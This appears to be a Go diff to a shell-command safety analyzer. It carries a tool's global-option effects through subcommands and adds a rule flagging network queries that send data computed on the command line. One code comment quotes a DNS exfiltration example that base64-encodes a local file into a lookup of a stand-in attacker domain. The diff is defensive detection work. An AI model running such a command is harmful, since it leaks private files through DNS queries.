@@ -25,6 +25,9 @@ type spec struct {
 	// handled are specs the handler applies itself (tmux's subcommands),
 	// listed so the rule registry still sees their rows.
 	handled []*spec
+	// global rows are the tool's own options' effects, checked before and
+	// after the subcommand word (kubectl --kubeconfig F get pods).
+	global []row
 	// lazy, when set, builds the entry on first use (see later).
 	lazy *lazySpec
 }
@@ -80,6 +83,10 @@ type call struct {
 	in   stream
 	sp   span
 	via  string
+	// args are all the arguments, those before the subcommand too.
+	args []field
+	// global are the rows of the tools' own options above this subcommand.
+	global []row
 }
 
 type handler func(b *builder, c *call) stream
@@ -156,7 +163,7 @@ func (b *builder) exec(argv []field, st *state, in stream, via string, sp span) 
 	if s == nil {
 		return worse(b.unknownProgram(prog, argv[1:], st, in, sp2), taintOf(in))
 	}
-	c := &call{prog: prog, fs: argv[1:], st: st, in: in, sp: sp2, via: via}
+	c := &call{prog: prog, fs: argv[1:], args: argv[1:], st: st, in: in, sp: sp2, via: via}
 	if runnerInputs()[prog] != nil {
 		c.a = parseArgs(c.fs, s.val, s.posix)
 		b.runnerCheck(prog, c)
@@ -197,6 +204,12 @@ func (b *builder) apply(s *spec, c *call) stream {
 	if helpOnly(s, c) {
 		return stream{kind: streamText}
 	}
+	// The tool's own options' rows hold at every level of subcommands
+	// (gh pr view 1 --web, kubectl --kubeconfig F get pods).
+	globals := c.global
+	if len(s.global) > 0 {
+		globals = append(append([]row(nil), c.global...), s.global...)
+	}
 	if len(s.subs) > 0 && len(c.a.ops) > 0 {
 		first := c.a.ops[0]
 		sub := s.subs[first.val]
@@ -216,14 +229,21 @@ func (b *builder) apply(s *spec, c *call) stream {
 			} else {
 				nc.sub = first.val
 			}
+			nc.global = globals
 			out := b.apply(sub, &nc)
 			b.fileArgs(c, false) // values of the tool's global options
+			if len(globals) > 0 {
+				b.rows(&spec{rows: globals}, c)
+			}
 			return out
 		}
 	}
 	prevNet := b.net
 	b.net = false
 	b.rows(s, c)
+	if len(globals) > 0 {
+		b.rows(&spec{rows: globals}, c)
+	}
 	// What it writes to stdout: its declared kind, else data guard cannot see.
 	out := stream{kind: streamUnknown}
 	if s.out != streamNone {
@@ -246,6 +266,20 @@ func (b *builder) apply(s *spec, c *call) stream {
 	return out
 }
 
+// queryData: a read-only query is A because what it sends is on the
+// line for the user to see. An argument computed on the line
+// (dig $(base64 notes.txt).evil.com) sends data nobody saw: that is
+// sending. Any expansion counts (a variable may hold a file's contents):
+// only what is written on the line is seen.
+func (b *builder) queryData(c *call) {
+	for _, f := range append(append([]field(nil), c.args...), c.fs...) {
+		if (!f.known || f.exp) && !f.glob {
+			b.add(Effect{Cap: CapSend, Rule: "net.query-data", Program: c.prog, Target: f.display(), Msg: fmt.Sprintf("sends data computed on this line (%s) to the network in its query", f.display())}, c.sp)
+			return
+		}
+	}
+}
+
 func indexOf(fs []field, f field) int {
 	for i := range fs {
 		if fs[i].pos == f.pos && fs[i].val == f.val && fs[i].end == f.end {
@@ -259,6 +293,9 @@ func (b *builder) rows(s *spec, c *call) {
 	for _, r := range s.rows {
 		if !c.a.holds(r.cond) {
 			continue
+		}
+		if r.cap == CapQuery {
+			b.queryData(c)
 		}
 		if r.on == "" {
 			b.add(Effect{Cap: r.cap, Rule: r.id, Program: c.prog, Msg: r.msg}, c.sp)
